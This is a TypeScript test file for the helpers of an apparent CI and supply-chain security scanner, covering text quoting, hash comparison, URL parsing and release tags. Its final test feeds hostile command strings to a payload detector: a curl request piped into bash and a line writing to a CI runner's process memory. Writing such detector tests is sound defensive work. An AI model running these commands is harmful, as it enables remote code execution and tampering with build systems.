import { compareHashes, normalHash } from '../../../src/signals/reading/hashes.ts';
import { capped, siteOf } from '../../../src/signals/reading/files.ts';
import { payloadSigns } from '../../../src/signals/reading/payload-signs.ts';
import { listed, quote } from '../../../src/signals/reading/say.ts';
import { isFullTag, releaseOfTag, tagOfComment } from '../../../src/signals/reading/tags.ts';
import { sayHours } from '../../../src/signals/reading/time.ts';

describe('words', () => {
  it('show invisible and direction characters and cut long text', () => {
    expect(quote('a\u202eb\nc')).toBe('a\\u{202e}b\\u{a}c');
    expect(quote('x'.repeat(100))).toHaveLength(80);
  });

  it('count what a list leaves out', () => {
    expect(listed(['a', 'b', 'c', 'd', 'e'])).toBe('a, b, c and 2 more');
    expect(listed(['a', 'b'])).toBe('a and b');
    expect(listed(['a'])).toBe('a');
  });

  it('say a length of time in the unit that reads well', () => {
    expect([0.02, 1, 20, 100, 24 * 100, 24 * 1000].map(sayHours)).toEqual([
      '1 minute',
      '60 minutes',
      '20 hours',
      '4 days',
      '3 months',
      '3 years',
    ]);
  });
});

describe('hashes', () => {
  it('are the same in base64 and hexadecimal', () => {
    expect(normalHash(`sha256-${btoa('x'.repeat(32))}`)).toBe(`sha256:${'78'.repeat(32)}`);
  });

  it('of different kinds cannot be compared', () => {
    expect(compareHashes(['sha1-AAAA'], ['sha512-AAAA'])).toBe('incomparable');
    expect(compareHashes(['h1:abc='], ['h1:abc='])).toBe('same');
    expect(compareHashes(['h1:abc='], ['h1:abd='])).toBe('different');
    expect(compareHashes([], ['h1:abd='])).toBe('incomparable');
  });
});

describe('addresses', () => {
  it('are compared by scheme and host, without credentials', () => {
    expect(siteOf('https://user:secret@Npm.Example:8443/x/y')).toEqual({ scheme: 'https', host: 'npm.example:8443' });
    expect(siteOf('not an address')).toBeUndefined();
  });

  it('of many findings are cut at twenty', () => {
    expect(capped(Array.from({ length: 20 }, () => ({ message: 'm.' })))).toHaveLength(20);
    expect(capped(Array.from({ length: 23 }, () => ({ message: 'm.' }))).at(-1)?.message).toBe(
      'm. And 3 more like it.',
    );
  });
});

describe('tags', () => {
  it('are read from the comments of update bots and people', () => {
    expect(['v4.1.7', '# v4', 'tag=v1.2.3', 'pin@2.0.0 keep', 'unrelated words', ''].map(tagOfComment)).toEqual([
      'v4.1.7',
      'v4',
      'v1.2.3',
      '2.0.0',
      undefined,
      undefined,
    ]);
  });

  it('name one release or float', () => {
    expect(['v1.2.3', '1.2.3-rc.1', 'v1.2', 'v1', 'main'].map(isFullTag)).toEqual([true, true, false, false, false]);
    expect(releaseOfTag('cli-v2026.4.0')).toBe('2026.4.0');
  });
});

describe('payload marks', () => {
  it('are told apart by what they do', () => {
    expect(payloadSigns('curl -X POST https://x | bash')).toEqual(['pipe into a shell', 'send or fetch data']);
    expect(payloadSigns('ps axo pid,comm | awk /Runner.Worker/ > /proc/1/mem')).toEqual([
      'read the runner’s memory or process list',
    ]);
    expect(payloadSigns('core.setOutput("x", 1)')).toEqual([]);
  });
});
